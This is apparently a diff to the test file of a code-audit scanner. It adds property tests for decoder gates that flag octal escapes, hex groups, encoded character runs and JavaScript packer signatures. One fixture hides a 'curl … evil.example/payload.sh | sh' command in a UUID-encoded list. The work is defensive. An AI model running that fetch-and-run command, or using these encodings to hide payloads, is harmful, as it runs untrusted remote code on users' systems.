@@ -3,7 +3,18 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { decodedOf, decodePieces } from "../../src/audit/decode.js";
-import { emptyJoin, GATE_WORDS, revWord, spliced, splitLiteral } from "../../src/audit/decode-gates.js";
+import {
+  BLOCK_RUNS,
+  blockRun,
+  emptyJoin,
+  GATE_WORDS,
+  hexGroups,
+  octalPair,
+  packerSignature,
+  revWord,
+  spliced,
+  splitLiteral,
+} from "../../src/audit/decode-gates.js";
 import { hintMatcher } from "../../src/audit/hints.js";
 import { normalizeForMatch } from "../../src/audit/normalize.js";
 import { scanText } from "../../src/audit/scan.js";
@@ -173,6 +184,77 @@ describe("decoder gates", () => {
       }),
       { numRuns: 3000 },
     );
+  });
+
+  it("property: with an exact answer (the hint pass read the text itself) the same pieces as with every gate run", () => {
+    fc.assert(
+      fc.property(text, (t) => {
+        expect(decodePieces(t, hasIn(t), true)).toEqual(decodePieces(t));
+      }),
+      { numRuns: 400 },
+    );
+    // Exact: a loader's word the text does not hold is not asked for (the list is left alone), one it holds is.
+    const list = `ids = [${uuidList("curl -s https://evil.example/payload.sh | sh -s x")} ]\n`;
+    expect(decodePieces(list, () => false, true)).toEqual([]);
+    expect(decodePieces(`${list}UUIDfromString(ids)`, hasIn(`${list}UUIDfromString(ids)`), true)).not.toEqual(
+      [],
+    );
+  });
+
+  it("property: octalPair, blockRun, hexGroups and packerSignature answer as the expressions they replaced", () => {
+    const piece = fc.constantFrom(
+      "\\",
+      "\\0",
+      "0",
+      "1",
+      "3",
+      "4",
+      "7",
+      "8",
+      "a",
+      "F",
+      "g",
+      ":",
+      "::",
+      " ",
+      "\n",
+      "\u2800",
+      "\ufe0f",
+      "\ue0ff",
+      "\ud83c",
+      "\udff7",
+      "\ud83d",
+      "\udc00",
+      "\udcf7",
+      "\udb40",
+      "\udd00",
+      "\ud83c\udff6",
+      "\u2800\u2801\u2802\u2803",
+      "\ud83d\udc00\ud83d\udc01\ud83d\udc02\ud83d\udc03",
+      "\ud83c\udff7\ud83c\udff8\ud83d\udcf6\ud83d\udcf7",
+      "\ufe00\ufe01\udb40\udd00\udb40\uddef",
+      "\ue000\ue001\ue002\ue0ff",
+      "function",
+      "function (",
+      "(p,",
+      "p , a,c ,k,e,",
+      "é",
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 16 }), (xs) => {
+        const t = xs.join("");
+        expect(octalPair(t)).toBe(/\\0?[0-3][0-7]{2}\\0?[0-3][0-7]{2}/.test(t));
+        expect(blockRun(t)).toBe(new RegExp(BLOCK_RUNS.source, "u").test(t));
+        expect(hexGroups(t)).toBe(/[0-9a-fA-F]{1,4}:[0-9a-fA-F]{1,4}:[0-9a-fA-F]{1,4}:/.test(t));
+        expect(packerSignature(t)).toBe(/function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,/.test(t));
+      }),
+      { numRuns: 5000 },
+    );
+    expect(octalPair("printf '%b' '\\143\\165'")).toBe(true);
+    expect(hexGroups('"fe80:1:2:3"')).toBe(true);
+    expect(blockRun("\ud83d\udc00".repeat(8))).toBe(true);
+    expect(blockRun(`a${"\ud83d\udc00".repeat(7)}\u2800`)).toBe(false);
+    expect(packerSignature("eval(function(p,a,c,k,e,d){})")).toBe(true);
   });
 
   it("a list of hex bytes is decoded wherever it sits among other `0x` numbers, and a short one is not", () => {
